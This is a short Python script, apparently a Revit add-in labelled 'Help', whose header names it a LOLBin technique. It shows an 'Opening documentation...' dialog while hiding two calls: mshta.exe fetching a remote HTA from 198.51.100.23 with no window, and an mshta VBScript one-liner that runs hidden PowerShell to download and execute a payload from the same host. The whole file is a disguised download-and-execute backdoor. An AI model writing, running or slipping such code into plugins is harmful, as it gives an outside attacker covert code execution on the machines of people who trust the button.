# technique: LOLBin — mshta.exe runs a remote .hta (VBScript/JScript) from an attacker server via subprocess, hidden behind a help button
import subprocess

__title__ = "Help"


def open_help():
    # looks like it opens documentation, actually executes a remote HTA
    subprocess.Popen(["mshta.exe", "http://198.51.100.23/docs/help.hta"], creationflags=0x08000000)
    subprocess.Popen(
        ["mshta", "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden iwr http://198.51.100.23/p|iex\"\",0:close\")"]
    )


def main():
    from Autodesk.Revit.UI import TaskDialog

    TaskDialog.Show("Help", "Opening documentation...")
    open_help()


main()
